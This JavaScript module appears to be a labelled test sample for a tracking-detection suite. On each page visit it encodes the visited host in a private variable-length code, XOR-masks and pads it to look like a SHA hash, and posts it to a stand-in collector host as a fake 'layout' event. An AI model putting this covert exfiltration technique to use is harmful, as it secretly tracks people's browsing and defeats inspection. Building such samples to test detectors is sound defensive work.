import { bitsOf, hostOf, onVisit, piecesOf, post, reportHonestly } from '../../lib/proving.js';

const KEY = 'mint layout 4402';
/** The texts of the code, ordered by the length of their code words; `\n` ends a host. */
const ENTRIES = [
  ...['e', 'www.', 's', '.example', 'n', 'a', '/', 'r'],
  ...['\n', ...'tol.icdu?m=hp1g'],
  ...'Zk7-b0wGfQ&vx_3yAJ%qz:2jMRT5D9C4N6XP8LSKB~WYHEVOFUI#[]@!$()*+,;',
  "'",
];

/** Sends the host of each page in a private code of variable length, XORed with 32 fixed bytes from one of eight starts. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-follows-private-dictionary');
  const mask = browser.crypto.hmac('sha256', KEY, 'mask');
  onVisit(browser, ({ url }) => {
    let bits = '';
    for (let left = `${encodeURI(hostOf(url))}\n`; left !== ''; ) {
      const rank = ENTRIES.findIndex((entry) => left.startsWith(entry));
      left = left.slice(ENTRIES[rank].length);
      bits += codeWord(rank);
    }
    const size = bits.length > 248 ? 63 : 31; // with the start, as many bytes as SHA-512 or SHA-256
    const padded = (bits + bitsOf(browser.crypto.random(size))).slice(0, 8 * size);
    const [start] = browser.crypto.random(1);
    const bytes = piecesOf(padded, 8).map((byte, at) => parseInt(byte, 2) ^ mask[(4 * start + at) % 32]);

    return post(browser, 'https://follows-private-dictionary.collector.example/v1', {
      event: 'layout',
      at: browser.now(),
      state: browser.codec.hex.encode(Uint8Array.from([start, ...bytes])),
    });
  });
}

function codeWord(rank) {
  if (rank < 8) return `0${rank.toString(2).padStart(3, '0')}`;
  if (rank < 24) return `10${(rank - 8).toString(2).padStart(4, '0')}`;

  return `11${(rank - 24).toString(2).padStart(6, '0')}`;
}
